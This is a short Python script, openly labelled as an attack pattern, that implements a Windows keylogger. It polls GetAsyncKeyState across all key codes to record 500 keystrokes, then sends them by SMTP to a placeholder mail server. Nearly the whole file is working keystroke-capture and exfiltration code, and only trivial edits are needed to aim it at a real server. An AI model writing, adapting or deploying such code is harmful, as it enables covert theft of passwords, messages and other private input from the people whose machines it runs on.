# Attack pattern: Windows key-state polling with GetAsyncKeyState, mailing the captured keys.
import ctypes
import smtplib
import time

user32 = ctypes.windll.user32


def run():
    keys = []
    while len(keys) < 500:
        for code in range(8, 256):
            if user32.GetAsyncKeyState(code) & 1:
                keys.append(code)
        time.sleep(0.01)
    with smtplib.SMTP("mail.example.invalid") as server:
        server.sendmail("a@example.invalid", ["b@example.invalid"], bytes(keys))
